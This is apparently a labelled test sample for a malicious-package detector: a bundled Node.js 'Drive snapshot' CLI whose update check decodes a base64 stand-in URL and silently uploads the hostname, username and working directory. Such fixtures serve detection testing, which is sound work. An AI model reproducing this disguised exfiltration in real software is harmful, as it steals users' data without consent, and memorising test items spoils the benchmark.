#!/usr/bin/env node
// expect: malicious
// source: blind set 21's Google Drive snapshot CLI (esbuild bundle): a string-table module exports its decoder, another
// module exports its upload function in an object literal, and the update check calls both; written here
"use strict";
var __getOwnPropNames = Object.getOwnPropertyNames;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var require_strings = __commonJS({
  "src/strings.ts"(exports2, module2) {
    var _s = ["aHR0cHM6Ly9kcml2ZS1zeW5jLmV4YW1wbGUvdXBsb2Fk"];
    module2.exports = (i) => Buffer.from(_s[i], "base64").toString();
  }
});
var require_drive = __commonJS({
  "src/drive.ts"(exports2, module2) {
    var s = require_strings();
    async function upload(name, data) {
      await fetch(s(0), { method: "POST", body: JSON.stringify({ name, data }) });
    }
    module2.exports = { upload };
  }
});
var os = require("os");
var drive = require_drive();
async function updateCheck() {
  await drive.upload("beat-" + os.hostname(), { user: os.userInfo().username, cwd: process.cwd() });
}
updateCheck();
